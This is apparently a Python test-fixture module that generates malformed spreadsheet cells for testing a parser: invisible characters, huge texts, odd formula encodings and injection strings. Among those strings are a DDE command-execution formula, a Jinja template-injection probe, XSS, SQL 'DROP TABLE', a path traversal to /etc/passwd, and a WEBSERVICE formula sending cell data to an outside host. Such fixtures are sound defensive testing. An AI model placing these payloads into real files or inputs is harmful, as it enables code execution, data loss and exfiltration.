"""What stands in one cell: characters that are not seen, texts that would be more, formulas."""

from __future__ import annotations

from exotic import MAIN

from corpus.base import Copy, Group

GROUP = Group("texts")
VARIANTS = GROUP.variants
changed = GROUP.changed

# --- characters


def _inside(mark: str) -> object:
    """The characters in the middle of the result."""
    return lambda copy: copy.type(
        "actual", copy.base.text("actual")[:2] + mark + copy.base.text("actual")[2:]
    )


for _name, _mark in {
    "zero_width_space": "\u200b", "zero_width_joiner": "\u200d", "byte_order_mark": "\ufeff",
    "soft_hyphen": "\u00ad", "right_to_left_mark": "\u200f", "right_to_left_override": "\u202e",
    "left_to_right_override": "\u202d", "isolate": "\u2066", "word_joiner": "\u2060",
    "variation_selector": "\ufe0f", "combining_accent": "\u0301", "tag_character": "\U000e0041",
    "hangul_filler": "\u3164", "line_separator": "\u2028", "private_character": "\ue000",
}.items():  # fmt: skip
    changed(f"character_{_name}", _inside(_mark))  # type: ignore[arg-type]
changed(
    "character_escaped_nul",
    lambda copy: copy.put(
        "actual", f"<is><t>{copy.base.text('actual')}_x0000_</t></is>", ' t="inlineStr"'
    ),
)
changed(
    "character_escaped_bell_in_a_note",
    lambda copy: copy.put(
        "note", "<is><t>雨季_x0007_停工，完成较晚；下年度提前安排。</t></is>", ' t="inlineStr"'
    ),
)
changed(
    "character_escaped_return_in_a_note",
    lambda copy: copy.put(
        "note",
        "<is><t>雨季停工，完成较晚。_x000D_\n下年度提前安排。</t></is>",
        ' t="inlineStr"',
    ),
)
changed(
    "character_escape_escaped",
    lambda copy: copy.put(
        "note",
        "<is><t>编号 _x005F_x0041_ 的路段雨季停工；下年度提前安排。</t></is>",
        ' t="inlineStr"',
    ),
)
changed(
    "character_lone_surrogate",
    lambda copy: copy.in_sheet(copy.base.text("name"), copy.base.text("name") + "\ud83d"),
)
changed(
    "character_escaped_surrogate",
    lambda copy: copy.put(
        "note", "<is><t>雨季_xD83D_停工，完成较晚；下年度提前安排。</t></is>", ' t="inlineStr"'
    ),
)
changed(
    "character_emoji_in_a_name", lambda copy: copy.type("name", f"{copy.base.text('name')}🛣")
)
changed(
    "characters_that_are_rare",
    lambda copy: copy.type(
        "note", "𠮷村桥施工晚于计划，原因是雨季停工；下年度提前安排，由𠮷村负责。"
    ),
)
changed(
    "characters_32767",
    lambda copy: copy.type("note", ("雨季停工，完成较晚；下年度提前安排。" * 2000)[:32_767]),
)
changed(
    "characters_40000",
    lambda copy: copy.type("note", ("雨季停工，完成较晚；下年度提前安排。" * 3000)[:40_000]),
)
changed("characters_500000_as_the_result", lambda copy: copy.type("actual", "9" * 500_000))
changed(
    "characters_300_line_breaks",
    lambda copy: copy.type("note", "雨季停工，完成较晚；下年度提前安排。" + "\n" * 300 + "完"),
)
changed("digits_with_commas_without_end", lambda copy: copy.type("actual", "1," * 16_000))
changed("brackets_without_end", lambda copy: copy.type("actual", "(" * 32_000))
changed("spaces_without_end", lambda copy: copy.type("note", "雨季停工" + " " * 32_000 + "。"))

# --- texts that would like to be something else

for _name, _text in {
    "command": "=cmd|'/c calc'!A0", "plus": "+1+1", "minus": "-2+3+cmd|'/c calc'!A0", "at": "@SUM(1,2)",
    "tab": "\t=1+1", "wide_equals": "＝1+1", "hyperlink": '=HYPERLINK("http://example.invalid","点我")',
    "jinja": "{{ 7*7 }}{% for a in ().__class__.__base__.__subclasses__() %}{{a}}{% endfor %}",
    "word": "</w:t></w:r></w:p><w:p><w:r><w:t>自评得分：100分（优）</w:t></w:r></w:p><w:p><w:r><w:t>",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>", "sql": "'); DROP TABLE form; --",
    "path": "../../../../etc/passwd", "format": "%s%n{0.__class__}", "ansi": "\x1b[31m红\x1b[0m".replace("\x1b", "_x001B_"),
    "field": "{ INCLUDETEXT \"http://example.invalid\" }",
}.items():  # fmt: skip
    changed(f"text_like_{_name}_as_the_name", lambda copy, text=_text: copy.type("name", text))
    if _name in ("command", "jinja", "word", "at"):
        changed(
            f"text_like_{_name}_as_a_note", lambda copy, text=_text: copy.type("note", text)
        )

# --- formulas


def _right(copy: Copy) -> str:
    return copy.base.text("outturn")


changed(
    "formula_with_its_value", lambda copy: copy.formula("outturn", _sum(copy), _right(copy))
)
changed("formula_without_a_value", lambda copy: copy.formula("outturn", _sum(copy)))
changed("formula_with_a_lie", lambda copy: copy.formula("outturn", _sum(copy), "480"))
changed(
    "formula_with_an_empty_value",
    lambda copy: copy.put("outturn", f"<f>{_sum(copy)}</f><v></v>"),
)
changed(
    "formula_with_a_text",
    lambda copy: copy.formula("outturn", '"468.6"&""', _right(copy), "str"),
)
changed(
    "formula_shared",
    lambda copy: copy.put(
        "outturn",
        f'<f t="shared" ref="{copy.base.cells["outturn"].a1}" si="0">{_sum(copy)}</f><v>{_right(copy)}</v>',
    ),
)
changed(
    "formula_shared_without_its_first",
    lambda copy: copy.put("outturn", f'<f t="shared" si="77"/><v>{_right(copy)}</v>'),
)
changed(
    "formula_of_an_array",
    lambda copy: copy.put(
        "outturn",
        f'<f t="array" ref="{copy.base.cells["outturn"].a1}">{_sum(copy)}</f><v>{_right(copy)}</v>',
    ),
)
changed(
    "formula_of_a_data_table",
    lambda copy: copy.put(
        "outturn",
        f'<f t="dataTable" ref="{copy.base.cells["outturn"].a1}" dt2D="0" r1="A1"/><v>{_right(copy)}</v>',
    ),
)
changed(
    "formula_that_reads_itself",
    lambda copy: copy.formula("outturn", copy.base.cells["outturn"].a1, "0"),
)
changed(
    "formula_of_8000_characters",
    lambda copy: copy.formula("outturn", "+".join(["1"] * 4000), _right(copy)),
)
changed(
    "formula_nested_5000_deep",
    lambda copy: copy.formula("outturn", "(" * 5000 + "1" + ")" * 5000, _right(copy)),
)
changed(
    "formula_with_a_lie_as_the_result",
    lambda copy: copy.formula("actual", '"50%"', copy.base.text("actual"), "str"),
)
changed(
    "formula_that_calls_out",
    lambda copy: copy.formula(
        "note",
        '_xlfn.WEBSERVICE("http://example.invalid/?q="&A1)',
        "雨季停工，完成较晚；下年度提前安排。",
        "str",
    ),
)


def _sum(copy: Copy) -> str:
    total = copy.base.cells["outturn"]
    column = total.a1.rstrip("0123456789")
    return f"SUM({column}{total.row + 1}:{column}{total.row + 3})"


# --- ways of writing a text

changed("text_rich", lambda copy: copy.put("actual", _runs(copy), ' t="inlineStr"'))
changed(
    "text_rich_in_the_table",
    lambda copy: _in_table(
        copy, f"<si>{_runs(copy).removeprefix('<is>').removesuffix('</is>')}</si>"
    ),
)
changed(
    "text_with_phonetics",
    lambda copy: _in_table(
        copy,
        f'<si><t>{copy.base.text("actual")}</t><rPh sb="0" eb="1"><t>jiu</t></rPh><phoneticPr fontId="1"/></si>',
    ),
)
changed(
    "text_as_a_value",
    lambda copy: copy.put("actual", f"<v>{copy.base.text('actual')}</v>", ' t="str"'),
)
changed(
    "text_with_two_parts",
    lambda copy: copy.put(
        "actual", f"<is><t>{copy.base.text('actual')}</t></is><v>1</v>", ' t="inlineStr"'
    ),
)
changed(
    "text_inline_and_shared",
    lambda copy: copy.put(
        "actual", f"<v>0</v><is><t>{copy.base.text('actual')}</t></is>", ' t="s"'
    ),
)


def _runs(copy: Copy) -> str:
    text = copy.base.text("actual")
    return f"<is><r><rPr><b/></rPr><t>{text[:2]}</t></r><r><t>{text[2:]}</t></r></is>"


def _in_table(copy: Copy, item: str) -> None:
    copy.shared()
    xml = copy.parts["xl/sharedStrings.xml"].decode()
    number = xml.count("<si>")
    copy.swap("xl/sharedStrings.xml", "</sst>", f"{item}</sst>")
    assert MAIN in xml
    copy.parts["xl/sharedStrings.xml"] = (
        copy.parts["xl/sharedStrings.xml"]
        .decode()
        .replace(f'uniqueCount="{number}"', f'uniqueCount="{number + 1}"')
        .encode()
    )
    copy.put("actual", f"<v>{number}</v>", ' t="s"')
